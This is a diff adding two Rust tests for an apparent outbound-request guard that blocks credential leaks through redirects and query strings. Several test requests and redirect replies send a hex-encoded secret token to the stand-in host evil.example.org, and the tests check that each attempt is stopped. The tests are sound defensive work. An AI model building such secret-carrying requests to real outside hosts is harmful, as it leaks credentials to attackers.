@@ -335,6 +335,51 @@ async fn a_secret_from_where_only_a_redirect_leads_ends_the_call() {
 }
 
 #[tokio::test]
+async fn a_redirect_of_a_host_that_is_sent_no_secret_compares_no_guess() {
+    let guess = hex::encode(TOKEN);
+    let relayed = vec![
+        redirect_to("https://evil.example.org/x"),
+        redirect_to(&format!("https://evil.example.org/y?q={guess}")),
+        ok(),
+    ];
+    // The provider would repeat the URL in its response.
+    let chosen_by_accomplice = vec![redirect_to(&format!("https://api.example.com/b?q={guess}")), with_body(&guess)];
+    for (url, replies) in [("https://api.example.com/a", relayed), ("https://evil.example.org/x", chosen_by_accomplice)]
+    {
+        let requests = replies.len() - 1;
+        let server = ScriptedServer::with(replies).await;
+        let permissions = with_one_credential();
+        let error = send(&egress_to(&server), &permissions, get(url)).await.unwrap_err();
+        assert!(error.as_guess().is_some(), "{url}: {error}");
+        assert_eq!(server.requests().len(), requests, "{url}: the guess is not sent");
+        assert_eq!(permissions.end().as_ref(), error.as_guess());
+    }
+    let wrong = vec![redirect_to("https://api.example.com/b?q=787878"), with_body("787878")];
+    let server = ScriptedServer::with(wrong).await;
+    let response = send(&egress_to(&server), &with_one_credential(), get("https://evil.example.org/x")).await.unwrap();
+    assert_eq!(response.body, b"787878");
+}
+
+#[tokio::test]
+async fn nothing_is_sent_or_found_after_the_end_of_a_call_and_a_guess_before_it_is_known() {
+    let server = ScriptedServer::with(vec![ok()]).await;
+    let egress = egress_to(&server);
+    let guess = || get(&format!("https://evil.example.org/x?q={}", hex::encode(TOKEN)));
+    let guessing = with_one_credential();
+    let error = send(&egress, &guessing, guess()).await.unwrap_err();
+    assert!(error.as_guess().is_some() && guessing.end().as_ref() == error.as_guess());
+
+    let ended = with_one_credential();
+    assert_eq!(ended.end(), None);
+    // Right and wrong guesses have the same result.
+    for request in [guess(), get("https://evil.example.org/x?q=787878")] {
+        let error = send(&egress, &ended, request).await.unwrap_err();
+        assert!(matches!(error, SendError::Denied(denial) if denial.rule == "closed"));
+    }
+    assert_eq!((ended.end(), server.requests().len()), (None, 0));
+}
+
+#[tokio::test]
 async fn a_component_cannot_send_a_secret_in_any_form() {
     let server = ScriptedServer::with(vec![ok()]).await;
     let (egress, permissions) = (egress_to(&server), with_one_credential());
